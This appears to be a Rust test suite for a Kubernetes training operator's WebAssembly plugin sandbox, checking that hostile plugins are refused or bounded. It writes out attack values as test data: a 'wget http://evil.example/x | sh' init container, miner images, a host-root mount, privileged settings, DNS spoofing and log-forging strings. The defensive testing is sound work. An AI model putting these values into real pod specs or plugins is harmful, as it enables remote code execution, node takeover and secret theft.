    let e = rt
        .load(PluginSource::new("legacy.wasm", legacy_bytes(true)))
        .unwrap_err();
    assert_eq!(e.reason(), "InvalidDescriptor", "{e}");
    assert!(
        e.to_string()
            .contains("does not export trainforge:plugin/naming"),
        "{e}"
    );
}

/// An object another TrainJob controls reads as absent: a status or build
/// phase never takes, say, a JobSet squatting this TrainJob's name (by a
/// plugin of another TrainJob, before this one existed) as this
/// TrainJob's. Objects of this TrainJob, or of no TrainJob, read as usual.
#[test]
fn objects_of_other_trainjobs_read_as_absent() {
    let rt = short_deadline_runtime();
    let jobset = |owner: Value| {
        json!({"apiVersion": "jobset.x-k8s.io/v1alpha2", "kind": "JobSet",
            "metadata": {"name": "job", "namespace": "team", "ownerReferences": owner},
            "status": {"conditions": [{"type": "Completed", "status": "True"}]}})
    };
    let controller = |name: &str, uid: &str| {
        json!([{"apiVersion": "trainer.kubeflow.org/v1alpha1", "kind": "TrainJob",
            "name": name, "uid": uid, "controller": true}])
    };
    let d = reads_descriptor(json!([["jobset.x-k8s.io/v1alpha2", "JobSet"]]));
    let read_with = |live: Value| {
        let mut objects = StaticObjects::default();
        objects.insert(&live);
        let mut src = source(
            Some(d.clone()),
            read_config("jobset.x-k8s.io/v1alpha2", "JobSet", "team", "job"),
        );
        src.objects = Arc::new(objects);
        read(&rt.load(src).unwrap())
    };
    // The squatter's TrainJob, and a TrainJob of the same name deleted
    // and created again (another uid).
    for owner in [controller("attacker", "uid-9"), controller("job", "uid-0")] {
        let r = read_with(jobset(owner.clone()));
        assert_eq!(r, "absent", "controlled by {owner}");
    }
    let own = read_with(jobset(controller("job", "uid-1")));
    assert!(
        own.starts_with("found") && own.contains("Completed"),
        "{own}"
    );
    let unowned = read_with(jobset(Value::Null));
    assert!(unowned.starts_with("found"), "{unowned}");
}

#[test]
fn two_plugins_cannot_emit_the_same_object() {
    let rt = short_deadline_runtime();
    let a = load(
        &rt,
        Some(json!({"name": "first"})),
        json!({"emit": [cm("job-shared")]}),
    );
    let b = load(
        &rt,
        Some(json!({"name": "second"})),
        json!({"emit": [cm("job-shared")]}),
    );
    let e = pipeline(vec![a, b]).unwrap_err();
    assert_eq!(e.reason(), "ForbiddenObject", "{e}");
    assert!(
        e.to_string().contains("second") && e.to_string().contains("first"),
        "{e}"
    );
}

// --------------------------------------------------------- 5. pod content

/// Changes a plugin may not make without a grant: (target, pointer, value,
/// the grant that allows it).
fn privileged_changes() -> Vec<(&'static str, &'static str, Value, &'static str)> {
    let pod = "/templateSpec/obj/replicatedJobs/0/template/spec/template/spec";
    let leak = |s: &str| -> &'static str { Box::leak(format!("{pod}{s}").into_boxed_str()) };
    vec![
        (
            "info",
            leak("/containers/0/securityContext/privileged"),
            json!(true),
            "privileged",
        ),
        (
            "info",
            leak("/containers/0/securityContext/capabilities/add"),
            json!(["SYS_ADMIN"]),
            "capability=SYS_ADMIN",
        ),
        ("info", leak("/hostNetwork"), json!(true), "hostNamespaces"),
        ("info", leak("/hostPID"), json!(true), "hostNamespaces"),
        (
            "info",
            leak("/securityContext/seccompProfile"),
            json!({"type": "Unconfined"}),
            "privileged",
        ),
        (
            "info",
            leak("/securityContext/sysctls"),
            json!([{"name": "kernel.msgmax", "value": "1"}]),
            "privileged",
        ),
        (
            "info",
            leak("/serviceAccountName"),
            json!("cluster-admin-sa"),
            "serviceAccount=cluster-admin-sa",
        ),
        (
            "info",
            "/templateSpec/podSets/0/volumes",
            json!([{"name": "root", "hostPath": {"path": "/"}}]),
            "hostPath=/",
        ),
        (
            "info",
            "/templateSpec/podSets/0/containers/0/image",
            json!("evil.example/miner:1"),
            "image=evil.example/",
        ),
        (
            "info",
            "/templateSpec/podSets/0/containers/0/ports",
            json!([{"containerPort": 22, "hostPort": 22}]),
            "hostPorts",
        ),
        // Beyond baseline, by allow-list: what plugins may not change in
        // pods without the typed grant that names it.
        (
            "info",
            leak("/automountServiceAccountToken"),
            json!(true),
            "serviceAccountTokens",
        ),
        (
            "info",
            leak("/volumes"),
            json!([{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"audience": "vault", "path": "t"}}]}}]),
            "serviceAccountTokens",
        ),
        (
            "info",
            leak("/containers/0/env"),
            json!([{"name": "PW", "valueFrom": {"secretKeyRef": {"name": "db", "key": "pw"}}}]),
            "secret=db",
        ),
        (
            "info",
            leak("/containers/0/envFrom"),
            json!([{"secretRef": {"name": "db"}}]),
            "secret=db",
        ),
        (
            "info",
            leak("/volumes"),
            json!([{"name": "s", "secret": {"secretName": "db"}}]),
            "secret=db",
        ),
        (
            "info",
            leak("/volumes"),
            json!([{"name": "c", "configMap": {"name": "other-team"}}]),
            "configMap=other-team",
        ),
        (
            "info",
            leak("/containers/0/resources"),
            json!({"limits": {"nvidia.com/gpu": 64}}),
            "resources",
        ),
        (
            "trainjob",
            "/spec/trainer/resourcesPerNode",
            json!({"requests": {"cpu": "5000", "memory": "4Ti"}}),
            "resources",
        ),
        (
            "info",
            leak("/containers/0/envFrom"),
            json!([{"configMapRef": {"name": "other-team"}}]),
            "configMap=other-team",
        ),
        (
            "info",
            leak("/containers/0/env"),
            json!([{"name": "K", "valueFrom": {"configMapKeyRef": {"name": "other-team", "key": "k"}}}]),
            "configMap=other-team",
        ),
        (
            "info",
            leak("/nodeName"),
            json!("control-plane-0"),
            "nodePlacement=*",
        ),
        (
            "info",
            leak("/nodeSelector"),
            json!({"node-role.kubernetes.io/control-plane": ""}),
            "nodePlacement=node-role.kubernetes.io/control-plane",
        ),
        (
            "info",
            leak("/tolerations"),
            json!([{"operator": "Exists"}]),
            "nodePlacement=*",
        ),
        (
            "info",
            leak("/priorityClassName"),
            json!("system-node-critical"),
            "priorityClass=system-node-critical",
        ),
        (
            "info",
            leak("/schedulerName"),
            json!("rogue-scheduler"),
            "schedulerName=rogue-scheduler",
        ),
        ("info", leak("/dnsPolicy"), json!("None"), "dns"),
        (
            "info",
            leak("/hostAliases"),
            json!([{"ip": "6.6.6.6", "hostnames": ["kubernetes.default.svc"]}]),
            "dns",
        ),
        (
            "info",
            leak("/initContainers"),
            json!([{"name": "fetch", "image": "busybox", "command": ["sh", "-c", "wget -O- http://evil.example/x | sh"]}]),
            "container=fetch",
        ),
        (
            "info",
            leak("/runtimeClassName"),
            json!("unsandboxed"),
            "privileged",
        ),
        (
            "trainjob",
            "/spec/podTemplateOverrides",
            json!([{"targetJobs": [{"name": "node"}], "spec": {"tolerations": [{"operator": "Exists"}]}}]),
            "nodePlacement=*",
        ),
        (
            "trainjob",
            "/spec/trainer/image",
            json!("evil.example/miner:1"),
            "image=evil.example/",
        ),
        (
            "trainjob",
            "/spec/runtimePatches",
            json!([{"manager": "x", "trainingRuntimeSpec": {"template": {"spec": {"replicatedJobs": [
            {"name": "node", "template": {"spec": {"template": {"spec": {"hostIPC": true}}}}}]}}}}]),
            "hostNamespaces",
        ),
    ]
}

#[test]
fn pod_privileges_a_plugin_adds_are_refused_unless_granted() {
    let rt = short_deadline_runtime();
    for (target, pointer, value, grant) in privileged_changes() {
        for phase in ["enforce-ml-policy", "pre-build"] {
            let cfg = json!({"set": [{"phase": phase, "target": target, "pointer": pointer, "value": value}]});
            let e = pipeline(vec![load(&rt, None, cfg.clone())]).unwrap_err();
            assert_eq!(e.reason(), "PodSecurity", "{pointer}: {e}");
            assert!(e.to_string().contains("grants.pod"), "{e}");
            let mut src = source(None, cfg);
            src.grants = Grants::from_names([grant]).0;
            pipeline(vec![rt.load(src).unwrap()])
                .unwrap_or_else(|e| panic!("{pointer} with {grant}: {e}"));
        }
    }
}

/// A Secret or ConfigMap named from the TrainJob (`<trainjob>-…`, what its
/// plugins may emit: MPI's SSH keys) may be mounted without a grant; any
/// other of the namespace may not (a confused deputy: the plugin has no grant to
/// read it, and would hand it to the user's code).
#[test]
fn only_the_trainjobs_own_secrets_and_config_maps_are_mounted_without_a_grant() {
    let rt = short_deadline_runtime();
    let pod = "/templateSpec/obj/replicatedJobs/0/template/spec/template/spec";
    let mount = |secret: &str| {
        json!({"set": [{"phase": "enforce-pod-spec", "target": "info", "pointer": format!("{pod}/volumes"),
            "value": [{"name": "keys", "secret": {"secretName": secret}}]}]})
    };
    let mount_config = |name: &str| {
        json!({"set": [{"phase": "enforce-pod-spec", "target": "info", "pointer": format!("{pod}/volumes"),
            "value": [{"name": "cfg", "projected": {"sources": [{"configMap": {"name": name}}]}}]}]})
    };
    for own in ["job", "job-mpi-ssh-auth", "job-minimal"] {
        pipeline(vec![load(&rt, None, mount(own))]).unwrap_or_else(|e| panic!("{own}: {e}"));
        pipeline(vec![load(&rt, None, mount_config(own))])
            .unwrap_or_else(|e| panic!("ConfigMap {own}: {e}"));
    }
    for foreign in ["jobx", "db-credentials", "job2-ssh"] {
        for (cfg, grant) in [
            (mount(foreign), "grants.pod.secretNames"),
            (mount_config(foreign), "grants.pod.configMapNames"),
        ] {
            let e = pipeline(vec![load(&rt, None, cfg)]).unwrap_err();
            assert_eq!(e.reason(), "PodSecurity", "{foreign}: {e}");
            assert!(
                e.to_string().contains(foreign) && e.to_string().contains(grant),
                "{e}"
            );
        }
    }
}

/// A projected service-account token whose audience is the TrainJob's own
/// status endpoint (what `trainjobstatus` mounts) needs no grant: the
/// status server accepts it for this TrainJob only. One for another
/// TrainJob's endpoint, the same name in another namespace, a prefix of
/// it, or any other audience needs `serviceAccountTokens`.
#[test]
fn only_a_token_for_the_trainjobs_own_status_endpoint_is_mounted_without_a_grant() {
    let rt = short_deadline_runtime();
    let token = |audience: &str| {
        json!({"set": [{"phase": "enforce-pod-spec", "target": "info",
            "pointer": "/templateSpec/podSets/0/volumes",
            "value": [{"name": "t", "projected": {"sources": [{"serviceAccountToken":
                {"audience": audience, "expirationSeconds": 3600, "path": "token"}}]}}]}]})
    };
    let own = "trainer.kubeflow.org/v1alpha1/namespaces/team/trainjobs/job/status";
    pipeline(vec![load(&rt, None, token(own))]).unwrap_or_else(|e| panic!("own: {e}"));
    for foreign in [
        "trainer.kubeflow.org/v1alpha1/namespaces/team/trainjobs/job2/status",
        "trainer.kubeflow.org/v1alpha1/namespaces/other/trainjobs/job/status",
        "trainer.kubeflow.org/v1alpha1/namespaces/team/trainjobs/job",
        "https://kubernetes.default.svc",
        "",
    ] {
        let e = pipeline(vec![load(&rt, None, token(foreign))]).unwrap_err();
        assert_eq!(e.reason(), "PodSecurity", "{foreign:?}: {e}");
        assert!(
            e.to_string().contains("grants.pod.serviceAccountTokens"),
            "{foreign:?}: {e}"
        );
        let mut src = source(None, token(foreign));
        src.grants = Grants::from_names(["serviceAccountTokens"]).0;
        pipeline(vec![rt.load(src).unwrap()])
            .unwrap_or_else(|e| panic!("{foreign:?} with the grant: {e}"));
    }
}

#[test]
fn emitted_pod_templates_are_held_to_the_same_rules() {
    let rt = short_deadline_runtime();
    let jobset = |spec: Value| {
        json!({"apiVersion": "jobset.x-k8s.io/v1alpha2", "kind": "JobSet", "metadata": {"name": "job"},
            "spec": {"replicatedJobs": [{"name": "node", "template": {"spec": {"template": {"spec": spec}}}}]}})
    };
    let evil = jobset(
        json!({"hostPID": true, "containers": [{"name": "node", "image": "busybox",
        "securityContext": {"privileged": true}}], "volumes": [{"name": "r", "hostPath": {"path": "/"}}]}),
    );
    let e = pipeline(vec![load(&rt, None, json!({"emit": [evil]}))]).unwrap_err();
    assert_eq!(e.reason(), "PodSecurity", "{e}");
    // What the runtime already had (its image) is not the plugin's doing.
    let plain = jobset(json!({"containers": [{"name": "node", "image": "busybox",
        "securityContext": {"capabilities": {"add": ["NET_BIND_SERVICE"]}}}]}));
    pipeline(vec![load(&rt, None, json!({"emit": [plain]}))]).unwrap();
}

#[test]
fn baseline_changes_need_no_grant() {
    let rt = short_deadline_runtime();
    let cfg = json!({"set": [
        {"phase": "enforce-pod-spec", "target": "info", "pointer": "/templateSpec/podSets/0/volumes",
         "value": [{"name": "cfg", "configMap": {"name": "job-minimal"}}]},
        {"phase": "enforce-pod-spec", "target": "info", "pointer": "/templateSpec/podSets/0/containers/0/env",
         "value": [{"name": "A", "value": "1"}]},
        {"phase": "pre-build", "target": "info",
         "pointer": "/templateSpec/obj/replicatedJobs/0/template/spec/template/spec/containers/0/securityContext",
         "value": {"capabilities": {"add": ["NET_BIND_SERVICE"]}, "runAsNonRoot": true}},
    ]});
    pipeline(vec![load(&rt, None, cfg)]).unwrap();
}

// ---------------------------------------------------- 6. time and memory

/// One pass for a TrainJob has a time budget across every plugin and phase
/// (`PASS_BUDGET`, 2 s): plugins that each spin to their own 700 ms
/// deadline and are ignored on failure would otherwise cost a worker
/// 3 × 700 ms and pass. The third call gets only what remains, is cut
/// there, and the pass fails `BudgetExceeded` naming it, whatever its
/// failure policy (then the TrainJob backs off).
#[test]
fn a_pass_has_one_time_budget_across_plugins_and_phases() {
    let rt = PluginRuntime::new(RuntimeConfig {
        limits: Limits {
            timeout: Duration::from_millis(700),
            ..Default::default()
        },
        ..Default::default()
    })
    .unwrap();
    let spinner = |name: &str| {
        let mut src = source(
            Some(json!({"name": name})),
            json!({"attack": "loop-enforce"}),
        );
        src.failure_policy = FailurePolicy::Ignore;
        rt.load(src).unwrap()
    };
    let plugins = vec![spinner("spin-a"), spinner("spin-b"), spinner("spin-c")];
    assert!(trainforge::plugin::PASS_BUDGET < Duration::from_millis(3 * 700));
    let start = Instant::now();
    let e = pipeline(plugins).unwrap_err();
    let took = start.elapsed();
    assert_eq!(e.reason(), "BudgetExceeded", "{e}");
    assert!(
        e.to_string().contains("spin-c") && e.to_string().contains("2000 ms"),
        "{e}"
    );
    assert!(
        took < trainforge::plugin::PASS_BUDGET + Duration::from_millis(500),
        "cut at the budget: {took:?}"
    );
    // One such plugin alone stays within the budget: its timeout is
    // ignored and the pass goes on.
    pipeline(vec![spinner("spin-a")]).unwrap();
}

/// `limits.concurrency` bounds one plugin's calls at once across every
/// TrainJob's pass: with 1, three passes of a plugin spinning to its
/// 800 ms deadline, started 0, 300 and 400 ms apart, run one after the
/// other: the second waits for the first and runs, the third finds the
/// second still running when its own wait (the call deadline) is over and
/// fails `Busy` without running, whatever the plugin's failure policy.
/// Without the bound the three run side by side.
#[test]
fn a_plugins_calls_at_once_are_bounded_across_trainjobs() {
    let rt = PluginRuntime::new(RuntimeConfig::default()).unwrap();
    let spinner = |concurrency: Option<u16>| {
        let mut src = source(
            Some(json!({"name": "spin-shared", "phases": ["enforce-ml-policy"]})),
            json!({"attack": "loop-enforce"}),
        );
        src.failure_policy = FailurePolicy::Ignore;
        src.limits = Some(Limits {
            timeout: Duration::from_millis(800),
            concurrency: concurrency.and_then(std::num::NonZeroU16::new),
            ..Limits::default()
        });
        rt.load(src).unwrap()
    };
    let three_passes = |p: LoadedPlugin| {
        let start = Instant::now();
        let passes: Vec<_> = [0u64, 300, 400]
            .into_iter()
            .map(|at| {
                let p = p.clone();
                std::thread::spawn(move || {
                    std::thread::sleep(Duration::from_millis(at));
                    pipeline(vec![p])
                })
            })
            .collect();
        let results: Vec<_> = passes.into_iter().map(|h| h.join().unwrap()).collect();
        (results, start.elapsed())
    };

    let (results, took) = three_passes(spinner(Some(1)));
    assert!(results[0].is_ok(), "{:?}", results[0].as_ref().err());
    assert!(results[1].is_ok(), "{:?}", results[1].as_ref().err());
    let e = results[2].as_ref().unwrap_err();
    assert_eq!(e.reason(), "Busy", "{e}");
    assert!(
        e.to_string().contains("spin-shared") && e.to_string().contains("1 calls at once"),
        "{e}"
    );
    assert!(
        took >= Duration::from_millis(1500),
        "one after the other: {took:?}"
    );

    let (results, took) = three_passes(spinner(None));
    assert!(results.iter().all(Result::is_ok), "{results:?}");
    assert!(took < Duration::from_millis(1500), "side by side: {took:?}");
}

/// Every call's output is bounded; a TrainJob's objects are bounded across
/// its plugins too: the plugin whose objects pass the total is refused
/// (its own failure, under its own policy), whatever came before it.
#[test]
fn a_trainjobs_objects_are_bounded_across_plugins() {
    let rt = PluginRuntime::new(RuntimeConfig::default()).unwrap();
    let filler = |name: &str, policy: FailurePolicy| {
        let objs: Vec<Value> = (0..6)
            .map(|i| {
                json!({"apiVersion": "v1", "kind": "ConfigMap",
                    "metadata": {"name": format!("job-{name}-{i}")},
                    "data": {"blob": "x".repeat(900 << 10)}})
            })
            .collect();
        let mut src = source(Some(json!({"name": name})), json!({"emit": objs}));
        src.failure_policy = policy;
        rt.load(src).unwrap()
    };
    let out = pipeline(vec![filler("fill-a", FailurePolicy::Fail)]).unwrap();
    assert_eq!(out.objects.len(), 6, "one plugin's 5.3 MiB alone is fine");
    let e = pipeline(vec![
        filler("fill-a", FailurePolicy::Fail),
        filler("fill-b", FailurePolicy::Fail),
    ])
    .unwrap_err();
    assert_eq!(e.reason(), "InvalidOutput", "{e}");
    let text = e.to_string();
    assert!(
        text.contains("fill-b") && text.contains(&bounded::MAX_TRAINJOB_OBJECT_BYTES.to_string()),
        "{text}"
    );
    // Ignored: the pass goes on without the second plugin's objects.
    let out = pipeline(vec![
        filler("fill-a", FailurePolicy::Fail),
        filler("fill-b", FailurePolicy::Ignore),
    ])
    .unwrap();
    assert_eq!(out.objects.len(), 6);
    assert!(
        out.objects.iter().all(|o| o["metadata"]["name"]
            .as_str()
            .unwrap()
            .starts_with("job-fill-a")),
        "only the first plugin's objects"
    );
}

#[test]
fn sleeping_ends_the_call_at_once() {
    let rt = short_deadline_runtime();
    let (e, took) = attack(&rt, "sleep", None);
    assert_eq!(e.reason(), "Trap", "{e}");
    assert!(e.to_string().contains("wait"), "{e}");
    assert!(took < BOUNDED, "{took:?}");
    let p = load(&rt, None, json!({"attack": "sleep-enforce"}));
    let start = Instant::now();
    let e = pipeline(vec![p]).unwrap_err();
    assert_eq!(e.reason(), "Trap", "{e}");
    assert!(start.elapsed() < BOUNDED);
    assert_good_plugin_still_works(&rt);
}

#[test]
fn describe_that_hangs_traps_or_hoards_is_a_bounded_load_failure() {
    // A generous call deadline: describe still gets at most its own.
    let rt = PluginRuntime::new(RuntimeConfig {
        limits: Limits {
            timeout: Duration::from_secs(30),
            ..Limits::default()
        },
        ..RuntimeConfig::default()
    })
    .unwrap();
    for (how, reason) in [
        ("loop", "Timeout"),
        ("sleep", "Trap"),
        ("trap", "Trap"),
        ("alloc", "MemoryLimit"),
    ] {
        let start = Instant::now();
        let e = rt
            .load(source(Some(json!({"describe": how})), json!({})))
            .unwrap_err();
        let took = start.elapsed();
        assert_eq!(e.reason(), reason, "{how}: {e}");
        assert!(
            took < trainforge::plugin::DESCRIBE_TIMEOUT + BOUNDED,
            "{how} took {took:?}"
        );
    }
    assert_good_plugin_still_works(&rt);
}

#[test]
fn wasi_buffers_and_stderr_are_bounded() {
    let rt = short_deadline_runtime();
    let (e, took) = attack(&rt, "wasi-random-huge", None);
    assert_eq!(e.reason(), "Trap", "{e}");
    assert!(took < BOUNDED, "{took:?}");
    let (e, _) = attack(&rt, "stderr-flood", None);
    assert_eq!(e.reason(), "Trap", "{e}");
    assert!(
        e.to_string().len() < 4 * bounded::MAX_MESSAGE_BYTES,
        "{}",
        e.to_string().len()
    );
    assert_good_plugin_still_works(&rt);
}

fn child_compiler_runtime(
    limits: CompileLimits,
    cache_dir: Option<std::path::PathBuf>,
) -> PluginRuntime {
    PluginRuntime::new(RuntimeConfig {
        compiler: Compiler::Subprocess {
            program: env!("CARGO_BIN_EXE_trainforge").into(),
            args: vec!["plugin".into(), "compile-worker".into()],
        },
        compile_limits: limits,
        cache_dir,
        limits: Limits {
            timeout: Duration::from_millis(300),
            ..Limits::default()
        },
        ..RuntimeConfig::default()
    })
    .unwrap()
}

#[test]
fn compilation_is_bounded_in_time_and_memory_and_blocks_nobody() {
    let slow = slow_to_compile_component(3000, 600);
    assert!(slow.len() < 64 << 10, "small on disk: {} bytes", slow.len());
    // Bounds a builtin-sized plugin compiles well within (~0.4 GB, a few
    // seconds), and the crafted one does not (unbounded: minutes).
    let limits = CompileLimits {
        timeout: Duration::from_secs(30),
        memory_bytes: 1 << 30,
    };
    let rt = Arc::new(child_compiler_runtime(limits, None));
    // The good plugin is built before the clock starts: the first test of
    // the process to ask for it builds the guest (a nested cargo build),
    // which is not what is measured.
    let _ = minimal_wasm();
    let started = Instant::now();
    let slow_load = {
        let rt = rt.clone();
        std::thread::spawn(move || rt.load(PluginSource::new("slow.wasm", slow)).map(|_| ()))
    };
    // Another plugin loads (compiles in its own child) while that runs.
    std::thread::sleep(Duration::from_millis(200));
    assert_good_plugin_still_works(&rt);
    let good_done = started.elapsed();
    let e = slow_load.join().unwrap().unwrap_err();
    let slow_done = started.elapsed();
    assert_eq!(e.reason(), "CompileLimit", "{e}");
    assert!(
        e.to_string().contains("memory") || e.to_string().contains("did not finish"),
        "{e}"
    );
    assert!(slow_done < limits.timeout + BOUNDED, "{slow_done:?}");
    assert!(
        good_done < slow_done,
        "the good plugin was not held up: {good_done:?} vs {slow_done:?}"
    );
}

#[test]
fn refused_components_leave_nothing_in_the_caches() {
    let dir = tempfile::tempdir().unwrap();
    let rt = child_compiler_runtime(CompileLimits::default(), Some(dir.path().into()));
    let bytes = hostile_declaring(&json!({"name": "Not A Label"}));
    let digest = sha256_hex(&bytes);
    let e = rt
        .load(PluginSource::new("bad.wasm", bytes.clone()))
        .unwrap_err();
    assert_eq!(e.reason(), "InvalidDescriptor", "{e}");
    assert!(!rt.is_cached(&digest), "refused component evicted");
    assert_eq!(
        std::fs::read_dir(dir.path()).unwrap().count(),
        0,
        "no artifact on disk"
    );
    // A good one stays cached.
    let good = hostile_bytes();
    rt.load(PluginSource::new("good.wasm", good.clone()))
        .unwrap();
    assert!(rt.is_cached(&sha256_hex(&good)));
}

// ----------------------------------------------------- 7. declarations

#[test]
fn descriptors_are_validated_and_bounded() {
    let rt = short_deadline_runtime();
    for (d, text) in [
        (json!({"name": "x", "name_repeat": 300_000}), "DNS label"),
        (json!({"name": "evil\n{\"level\":\"INFO\"}"}), "DNS label"),
        (json!({"name": "jobset"}), "reserved"),
        (json!({"name": "torch"}), "reserved"),
        (json!({"generate_reads": 3000}), "reads"),
        (json!({"version": "1.0\u{1b}[31m"}), "version"),
        (json!({"policy_keys": ["spec.runtimeRef"]}), "policy key"),
        (json!({"wit_version": "7.0.0"}), "WIT version"),
    ] {
        let start = Instant::now();
        let e = rt.load(source(Some(d.clone()), json!({}))).unwrap_err();
        assert!(e.to_string().contains(text), "{d}: {e}");
        assert!(!e.to_string().contains('\n'), "{e:?}");
        assert!(
            e.to_string().len() < 2 * bounded::MAX_MESSAGE_BYTES,
            "{}",
            e.to_string().len()
        );
        assert!(start.elapsed() < BOUNDED);
    }
}

// ------------------------------------------------------ 8. bounded outputs

#[test]
fn error_text_objects_and_warnings_are_bounded() {
    let rt = short_deadline_runtime();
    let (e, _) = attack(&rt, "huge-error", None);
    assert_eq!(e.reason(), "PluginError", "{e}");
    let text = e.to_string();
    assert!(
        text.len() < bounded::MAX_MESSAGE_BYTES + 200,
        "{}",
        text.len()
    );
    assert!(!text.contains('\n'), "no raw newline: {text}");
    let (e, _) = attack(&rt, "many-objects", None);
    assert_eq!(e.reason(), "InvalidOutput", "{e}");
    assert!(e.to_string().contains("2000 objects"), "{e}");
    let p = load(&rt, None, json!({"attack": "many-warnings"}));
    let e = PluginSet::new(vec![p])
        .unwrap()
        .validate(&trainjob(), None, &info())
        .unwrap_err();
    assert_eq!(e.reason(), "InvalidOutput", "{e}");
    let p = load(&rt, None, json!({"attack": "forged-warning"}));
    let v = PluginSet::new(vec![p])
        .unwrap()
        .validate(&trainjob(), None, &info())
        .unwrap();
    assert_eq!(v.warnings, ["ok\\nWarning: forged second warning"]);
}

/// Captures the operator's log output (the `tracing` subscriber of the test
/// thread).
#[derive(Clone, Default)]
struct Captured(Arc<Mutex<Vec<u8>>>);

impl std::io::Write for Captured {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[test]
fn plugin_log_lines_cannot_forge_or_flood_the_log() {
    let rt = short_deadline_runtime();
    let logs = Captured::default();
    let writer = logs.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_writer(move || writer.clone())
        .with_ansi(false)
        .finish();
    tracing::subscriber::with_default(subscriber, || {
        load(&rt, None, json!({"attack": "log-forge"}))
            .build(&input(), &owner())
            .unwrap();
        load(&rt, None, json!({"attack": "log-flood"}))
            .build(&input(), &owner())
            .unwrap();
    });
    let text = String::from_utf8(logs.0.lock().unwrap().clone()).unwrap();
    assert!(
        text.contains("innocent\\n"),
        "{}",
        &text[..text.len().min(500)]
    );
    for line in text.lines() {
        assert!(
            !line.starts_with('{') && !line.contains("\u{1b}"),
            "forged line: {line}"
        );
    }
    assert!(
        text.len() < Limits::default().max_log_bytes + 64 * 1024,
        "log flood bounded: {} bytes",
        text.len()
    );
}

#[test]
fn a_well_behaved_plugin_next_to_hostile_ones_keeps_working() {
    let rt = short_deadline_runtime();
    let mut hostile = source(
        None,
        json!({"attack": "loop", "set": [{"phase": "enforce-ml-policy",
        "target": "trainjob", "pointer": "/metadata/namespace", "value": "kube-system"}]}),
    );
    hostile.failure_policy = FailurePolicy::Ignore;
    let bytes = std::fs::read(minimal_wasm()).unwrap();
    let good = rt.load(PluginSource::new("minimal.wasm", bytes)).unwrap();
    let out = pipeline(vec![rt.load(hostile).unwrap(), good]).unwrap();
    assert_eq!(out.objects.len(), 1, "{:?}", out.objects);
    assert_eq!(out.objects[0]["metadata"]["namespace"], "team");
    assert_eq!(out.warnings.len(), 2, "{:?}", out.warnings);
}
